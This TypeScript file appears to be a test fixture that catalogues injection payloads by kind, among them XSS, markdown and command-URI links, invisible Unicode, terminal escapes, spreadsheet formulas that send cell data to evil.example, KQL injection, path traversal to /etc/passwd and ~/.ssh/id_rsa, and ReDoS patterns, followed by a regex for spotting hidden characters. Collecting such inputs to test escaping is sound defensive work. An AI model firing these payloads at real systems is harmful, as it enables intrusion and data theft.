/** What a payload tries to be taken for. */
export type PayloadKind =
  | 'html'
  | 'markdown'
  | 'command'
  | 'unseen'
  | 'terminal'
  | 'formula'
  | 'kql'
  | 'csv'
  | 'path'
  | 'prototype'
  | 'regex'
  | 'icon';

/** By kind, what attackers write into a log, a file's name or a link, to become more than text somewhere. */
export const payloadsByKind: Readonly<Record<PayloadKind, readonly string[]>> = {
  html: [
    '<img src=x onerror="document.title=1">',
    '<script>document.title=1</script>',
    '</script><script>document.title=1</script>',
    '"><svg/onload=document.title=1>',
    "' onmouseover='document.title=1",
    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
    '<a href="https://evil.example/" target=_top>sign in again</a>',
    '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
    '</td></tr></table><details open ontoggle=document.title=1>',
    '<base href="https://evil.example/"><form action=//evil.example><button>OK',
    '<!-- x',
    '-->',
    '<!-- /signins:section passwordSpray-1 -->',
    '&lt;b&gt; &#60;i&#62; &amp;nbsp;',
    '<math><mtext><table><mglyph><style><img src=x onerror=document.title=1>',
  ],
  markdown: [
    '[sign in again](https://evil.example/)',
    '![](https://evil.example/pixel.png)',
    '[![x](https://evil.example/a.png)](https://evil.example/b)',
    '[x][y]\n\n[y]: https://evil.example/',
    '<https://evil.example/>',
    'https://evil.example/?a=b www.evil.example mallory@evil.example',
    '| a | b |\n| --- | --- |\n| c | d |',
    'a|b\\|c\\\\|d',
    '\n# heading\n\n- list\n> quote\n\n---\n',
    '\n```\n~~~\n',
    '`a ``b ```c',
    '**b** __b__ *i* ~~s~~ \\',
    '](https://evil.example/) [',
    '- [x] done',
    '    indented',
    '[^1]: note $x^2$ :smile: @everyone #1',
  ],
  command: [
    '[x](command:workbench.action.quit)',
    '<command:workbench.action.terminal.new>',
    'command:workbench.action.quit?%5B%5D',
    '[x](vscode://evil.example/open)',
    '[x](javascript:alert(1)) [y](data:text/html,<script>1</script>)',
    '](command:workbench.action.quit "x") [',
    '[x](file:///etc/passwd)',
  ],
  unseen: [
    'invoice\u202Efdp.exe\u202C',
    '\u2066admin\u2069\u200F\u061C',
    'ad\u200Bmin\u200D\u2060\uFEFF\u00AD\u034F',
    'a\u2028b\u2029c\u0085d',
    '\u{E0061}\u{E0064}\u{E006D}tag',
    '\u3164\u115F\u1160\uFFA0',
    '\uD800 half \uDFFF',
    'line\r\nline\rline\nline\ttab\vvt\fff',
  ],
  terminal: [
    '\u001b[2J\u001b[31mred\u001b[0m',
    '\u001b]8;;https://evil.example\u0007here\u001b]8;;\u0007',
    '\u009b31m\u0000\u0007\b\u007f',
    '\u001b]0;title\u0007\u001bP$q"p\u001b\\',
  ],
  formula: [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=cmd|" /C calc"!A0',
    '+1+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\u00A0=1+1',
    '\uFEFF=1+1',
    '＝1+1',
    '\u22121+1',
    '";=1+1;"',
  ],
  kql: [
    '" or true // ',
    "' or true // ",
    '\\" | union OfficeActivity //',
    '"\n| take 1',
    '\u2028| take 1',
    '@"a""b" h"x" ```',
    '*/ /* ; let a = 1;',
    'a\\',
    '") | evaluate http_request("https://evil.example") //',
  ],
  csv: ['a,b;c\td|e', '"', '""', '"a', 'a"b",c\r\n"d', '\r\n', "'=1", ',,,,', '\\"'],
  path: [
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/etc/passwd',
    'C:\\Windows\\win.ini',
    '\\\\evil.example\\share\\x.csv',
    'file:///etc/passwd',
    'a/../../b.csv',
    '%2e%2e%2f%2e%2e%2fetc',
    '.. /.. /x.csv',
    'x.csv\u0000.png',
    '~/.ssh/id_rsa',
    'CON',
  ],
  prototype: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'],
  regex: [
    '(a+)+$',
    '^(([a-z])+.)+[A-Z]([a-z])+$',
    '(?=',
    '[',
    '\\',
    '$& $1 $` $$',
    '.*'.repeat(50),
  ],
  icon: ['$(flame) $(sync~spin) $(zap)', '\\$(flame)', '${env:PATH} %s {0} {1} {{7*7}} <%= 7 %>'],
};

/** All of them. */
export const payloads: readonly string[] = Object.values(payloadsByKind).flat();

/** Characters that are not seen, or that steer the text or the terminal around them; half a surrogate pair too. */
export const misleading =
  /[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\u00AD\u115F\u1160\u200B-\u200F\u202A-\u202E\u2060-\u206F\u3164\uFEFF\uFFA0\u{E0000}-\u{E0FFF}]|\u034F|\u061C/u;
